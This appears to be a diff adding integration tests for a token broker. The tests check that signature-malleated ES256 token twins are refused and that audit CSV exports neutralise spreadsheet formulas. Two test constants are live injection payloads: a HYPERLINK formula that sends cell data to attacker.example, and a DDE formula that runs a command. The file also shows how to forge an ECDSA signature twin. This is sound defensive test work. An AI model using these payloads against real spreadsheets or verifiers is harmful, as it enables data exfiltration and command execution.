@@ -1,0 +1,171 @@
+"""Second security round over real HTTP: a real broker process, the local OIDC issuer and moto.
+
+Each test asserts the answer (status, RFC 6749 error), the audit records the broker wrote, and
+the upstream calls it made: an `intent` record precedes every STS call, so counting intents
+counts calls to the upstream; the issuer's /stats counts JWKS fetches.
+"""
+
+from __future__ import annotations
+
+import base64
+import csv
+import io
+import json
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+from servers import DevIssuer, free_port, start_dev_issuer
+from stack import Broker, Moto, policy_toml, start_broker, start_moto
+
+from broker.audit import open_store
+from broker.audit.events import AuditEvent, Outcome
+
+pytestmark = pytest.mark.integration
+
+P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
+
+
+@dataclass
+class Stack:
+    issuer: DevIssuer
+    moto: Moto
+    broker: Broker
+    audit_db: Path
+    workdir: Path
+    role_arn: str
+
+    def events(self) -> list[AuditEvent]:
+        store = open_store(f"sqlite:///{self.audit_db}")
+        try:
+            return list(store.events())
+        finally:
+            store.close()
+
+    def events_for(self, request_id: str) -> list[AuditEvent]:
+        return [e for e in self.events() if e.request_id == request_id]
+
+    def config(self, workdir: Path, *, broker_extra: str = "", issuer_extra: str = "") -> str:
+        """A policy for a further broker on this stack's issuer and moto, with its own audit."""
+        text = policy_toml(
+            issuer_url=self.issuer.url,
+            audit_db=workdir / "audit.db",
+            listen=f"127.0.0.1:{free_port()}",
+            moto_url=self.moto.url,
+            role_arn=self.role_arn,
+            broker_extra=broker_extra,
+        )
+        return text.replace(
+            'jwks_refetch_cooldown = "1s"', 'jwks_refetch_cooldown = "1s"\n' + issuer_extra
+        )
+
+
+def audit_of(db: Path) -> list[AuditEvent]:
+    store = open_store(f"sqlite:///{db}")
+    try:
+        return list(store.events())
+    finally:
+        store.close()
+
+
+@pytest.fixture(scope="module")
+def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
+    """Issuer + moto + a broker whose issuer has `require_jti = false` (tokens without jti)."""
+    workdir = tmp_path_factory.mktemp("security")
+    issuer = start_dev_issuer(workdir)
+    moto = start_moto(workdir)
+    role_arn = moto.create_role("etl-writer")
+    s = Stack(issuer, moto, None, workdir / "audit.db", workdir, role_arn)  # type: ignore[arg-type]
+    config = s.config(workdir, issuer_extra="require_jti = false")
+    s.broker = start_broker(workdir, config)
+    try:
+        yield s
+    finally:
+        s.broker.stop()
+        moto.stop()
+        issuer.stop()
+
+
+def _b64(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
+
+
+def _unb64(text: str) -> bytes:
+    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
+
+
+# -- ECDSA signature twins ------------------------------------------------------------------------
+
+
+def test_spent_es256_token_without_jti_is_refused_as_its_signature_twin(stack: Stack) -> None:
+    """A spent ES256 token without jti, re-encoded as (r, n - s), does not buy a second session:
+    the twin is refused as non-canonical, nothing reaches STS, and the original stays spent."""
+    token = stack.issuer.mint("gitlab", alg="ES256", jti=None)
+    assert "jti" not in json.loads(_unb64(token.split(".")[1]))
+    status, body, _ = stack.broker.exchange(token)
+    assert status == 200, body
+    first = stack.events_for(body["request_id"])
+    assert [e.outcome for e in first] == [Outcome.INTENT, Outcome.ISSUED]
+
+    header, payload, signature = token.split(".")
+    raw = _unb64(signature)
+    s = int.from_bytes(raw[32:], "big")
+    assert s <= P256_ORDER // 2  # the issuer signs low-S, as the broker requires
+    twin = f"{header}.{payload}.{_b64(raw[:32] + (P256_ORDER - s).to_bytes(32, 'big'))}"
+    status, body, _ = stack.broker.exchange(twin)
+    assert (status, body["error"]) == (400, "invalid_request")
+    records = stack.events_for(body["request_id"])
+    assert [(e.outcome, e.reason) for e in records] == [(Outcome.DENIED, "non_canonical_signature")]
+    assert not records[0].session_id  # no session, no intent: STS was not called
+
+    status, body, _ = stack.broker.exchange(token)
+    assert (status, body["error"]) == (400, "invalid_request")
+    assert [e.reason for e in stack.events_for(body["request_id"])] == ["token_replayed"]
+
+
+# -- spreadsheet injection ------------------------------------------------------------------------
+
+FORMULA_TASK = '=HYPERLINK("http://attacker.example/?"&A1,"x")'
+FORMULA_GRANT = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def _csv_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_audit_csv_export_and_report_neutralise_formulas(stack: Stack) -> None:
+    """A task and an audience starting with = or @ reach the audit as sent; `audit export
+    --format csv` and `audit report --format csv` write them with a leading apostrophe, JSON
+    lines keep them exact, and the HTML report escapes them."""
+    status, body, _ = stack.broker.exchange(stack.issuer.mint("gitlab"), task=FORMULA_TASK)
+    assert status == 200, body
+    issued = stack.events_for(body["request_id"])
+    assert [e.outcome for e in issued] == [Outcome.INTENT, Outcome.ISSUED]
+    assert issued[-1].task == FORMULA_TASK
+    status, body, _ = stack.broker.exchange(stack.issuer.mint("gitlab"), grant=FORMULA_GRANT)
+    assert (status, body["error"]) == (400, "invalid_target")
+    denied = stack.events_for(body["request_id"])
+    assert [(e.outcome, e.grant) for e in denied] == [(Outcome.DENIED, FORMULA_GRANT)]
+
+    result = stack.broker.cli("audit", "export", "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    cells = _csv_cells(result.stdout)
+    assert "'" + FORMULA_TASK in cells and "'" + FORMULA_GRANT in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    result = stack.broker.cli("audit", "export", "--format", "jsonl")
+    rows = [json.loads(line) for line in result.stdout.splitlines()]
+    assert FORMULA_TASK in {r["task"] for r in rows}
+    assert FORMULA_GRANT in {r["grant"] for r in rows}
+
+    result = stack.broker.cli("audit", "report", "--format", "csv", "--since", "1d")
+    assert result.returncode == 0, result.stderr
+    cells = _csv_cells(result.stdout)
+    assert "'" + FORMULA_GRANT in cells  # the denials section names the grant asked for
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    result = stack.broker.cli("audit", "report", "--format", "html", "--since", "1d")
+    assert result.returncode == 0, result.stderr
+    assert "@SUM(1+1)*cmd|&#x27; /C calc&#x27;!A0" in result.stdout
+    assert FORMULA_GRANT not in result.stdout
